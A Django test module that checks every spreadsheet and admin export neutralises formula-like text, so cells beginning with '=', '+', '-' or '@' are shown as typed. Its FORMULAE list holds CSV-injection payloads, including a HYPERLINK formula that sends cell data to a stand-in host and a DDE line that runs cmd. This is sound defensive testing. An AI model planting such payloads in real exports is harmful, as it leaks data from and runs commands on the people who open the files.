"""No export carries a live formula (issue 14, item 3).

Text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (an activity title, a member's or a
group's name) is run by Excel as a formula. Every Excel/CSV export goes through ``core.exports``: openpyxl
workbooks are ``core.exports.Workbook`` (such text as a quoted text cell, shown as typed), the admin's
django-import-export exports through ``neutralise_dataset`` (a leading apostrophe). Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import FORMULA_START, Workbook, neutralise
from tests.assessments.test_annual import year  # noqa: F401  (合肥's rules, Q1 rolled up, awards and funding)
from tests.conftest import project_packages
from tests.proposals.conftest import walk  # noqa: F401

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent

FORMULAE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.fixture
def hostile(world, year, walk):  # noqa: F811
    """The district, its groups, members, sector, unit and an activity named like formulas, with data in every
    export: 2026's roll-up, awards and funding (``year``) and a proposal assigned to the unit."""
    from activities.models import Activity
    from groups.models import ActivityGroup, Committee, HandlingUnit, Member, Sector

    walk.assigned()
    Committee.objects.filter(pk=world.district.pk).update(name=FORMULAE[0])
    ActivityGroup.objects.filter(pk=world.group.pk).update(name=FORMULAE[1])
    ActivityGroup.objects.filter(pk=world.other_group.pk).update(name=FORMULAE[2])
    Member.objects.filter(pk=world.member_record.pk).update(name=FORMULAE[3])
    Member.objects.filter(pk=world.convener_member.pk).update(name=FORMULAE[4])
    Sector.objects.filter(pk=world.member_record.sector_id).update(name=FORMULAE[5])
    HandlingUnit.objects.filter(pk=world.unit.pk).update(name=FORMULAE[6])
    Activity.objects.filter(group=world.group).update(title=FORMULAE[6])
    return world


def _cells(content: bytes):
    """Every non-empty cell of every sheet of an xlsx."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_no_formula(content: bytes) -> set[str]:
    """No cell of the workbook is a formula and every formula-like text is quoted; returns the texts."""
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert [c.coordinate for c in risky if not c.quotePrefix] == []
    return {c.value for c in cells if isinstance(c.value, str)}


EXPORTS = {  # every Excel download of the pages: (URL name, query, formula-like texts it must show as typed)
    "ledger": ("activities:ledger", {"export": "xlsx"}, {FORMULAE[0], FORMULAE[1], FORMULAE[6]}),
    "coverage": ("activities:coverage", {"export": "xlsx", "year": 2026}, {FORMULAE[0], FORMULAE[1], FORMULAE[2]}),
    "assessment": (
        "assessments:assessment_export",
        {"year": 2026},
        {FORMULAE[1], FORMULAE[3], FORMULAE[4], FORMULAE[5]},
    ),
    "funding": ("assessments:funding_export", {"year": 2026}, {FORMULAE[1], FORMULAE[2]}),
    "proposal figures": ("proposals:figures_xlsx", {"year": 2026}, {FORMULAE[0], FORMULAE[6]}),
    "consultation figures": ("consultations:figures", {"export": "xlsx"}, set()),  # labels and counts only
}


@pytest.mark.parametrize("name", EXPORTS)
def test_every_excel_export_shows_formula_like_text_as_text(hostile, client_for, name):
    url, query, expected = EXPORTS[name]
    if "committee" not in query and url.startswith("assessments"):
        query = {**query, "committee": hostile.district.pk}
    response = client_for(hostile.district_staff).get(reverse(url), query)
    assert response.status_code == 200 and response["Content-Type"].endswith("spreadsheetml.sheet")
    texts = _assert_no_formula(response.content)
    # A bare CR reads back as LF unless the writer escapes it (openpyxl does through lxml, &#13;): either is the text.
    expected, texts = ({text.replace("\r", "\n") for text in group} for group in (expected, texts))
    assert expected <= texts, f"{name}: missing {expected - texts}"


def _admin_exports(world, rf):
    """(model admin, format, bytes) for every admin that exports, in every format it offers."""
    from django.contrib import admin
    from import_export.mixins import BaseExportMixin

    request = rf.post("/admin/export/")
    request.user = world.staff
    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, BaseExportMixin):
            queryset = model_admin.get_export_queryset(request)
            for file_format in model_admin.get_export_formats():
                fmt = file_format()
                yield model_admin, fmt, model_admin.get_export_data(fmt, request, queryset)


def test_every_admin_export_neutralises_formula_like_text_in_every_format(hostile, rf):
    from groups.models import ActivityGroup, Member

    seen: dict[type, set] = {}
    formats = set()
    for model_admin, fmt, data in _admin_exports(hostile, rf):
        formats.add(fmt.get_title())
        if fmt.get_title() == "xlsx":
            texts = _assert_no_formula(data)
        elif fmt.get_title() in ("csv", "tsv"):
            text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
            rows = list(csv.reader(io.StringIO(text), delimiter="\t" if fmt.get_title() == "tsv" else ","))
            texts = {cell for row in rows for cell in row}
            assert [c for c in texts if c.startswith(FORMULA_START)] == []
        else:  # json, yaml, html, ods: no formula either way; the text is there, behind its apostrophe
            content = data.decode("utf-8", "replace") if isinstance(data, bytes) else data
            assert "formula" not in content
            continue
        seen.setdefault(model_admin.model, set()).update(texts)
    assert {"csv", "xlsx"} <= formats
    assert {"'" + FORMULAE[3], "'" + FORMULAE[4]} <= seen[Member]
    assert {"'" + FORMULAE[1], "'" + FORMULAE[2]} <= seen[ActivityGroup]


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append([-5, Decimal("-2.50"), 3.5, date(2026, 1, 2), None, "-5", "张三", "a=b", "=1+1", "bad\x1b\ud800"])
    plain = Workbook()
    plain.active.append([-5, "+86 139"])
    plain.active.cell(2, 1, value="@x")
    row = _cells(_saved(book))
    assert [(c.value, c.data_type) for c in row[:3]] == [(-5, "n"), (-2.5, "n"), (3.5, "n")]
    assert [c.value for c in row[4:]] == ["-5", "张三", "a=b", "=1+1", "bad\ufffd\ufffd"]
    assert [c.quotePrefix for c in row[4:]] == [True, False, False, True, False]
    assert [(c.value, c.quotePrefix) for c in _cells(_saved(plain))] == [(-5, False), ("+86 139", True), ("@x", True)]
    assert [neutralise(v) for v in (-5, None, "=x", "x", "\tx")] == [-5, None, "'=x", "x", "'\tx"]


def _saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


APP_DIRS = project_packages()
WRITERS = re.compile(
    r"openpyxl\.Workbook\(|from openpyxl import[^\n]*\bWorkbook\b|csv\.(Dict)?[wW]riter\(|"
    r"xlsxwriter|tablib\.Dataset\(\)\.export|\.export\(\"(csv|xlsx)\""
)


def test_no_export_writes_a_spreadsheet_around_core_exports():
    """A new export must build on ``core.exports.Workbook`` (or neutralise itself there): any other spreadsheet
    writer in the code base fails this test."""
    files = [p for d in APP_DIRS for p in (ROOT / d).rglob("*.py") if "migrations" not in p.parts]
    offenders = [
        str(p.relative_to(ROOT)) for p in files if p != ROOT / "core" / "exports.py" and WRITERS.search(p.read_text())
    ]
    assert offenders == []


def test_every_admin_export_goes_through_the_neutraliser():
    from django.contrib import admin
    from import_export.mixins import BaseExportMixin

    from groups.admin import UserScopedImportMixin

    exporting = [a for a in admin.site._registry.values() if isinstance(a, BaseExportMixin)]
    assert exporting, "no admin exports found: the test looks in the wrong place"
    assert [
        type(a).__name__
        for a in exporting
        if type(a).get_data_for_export is not UserScopedImportMixin.get_data_for_export
    ] == []
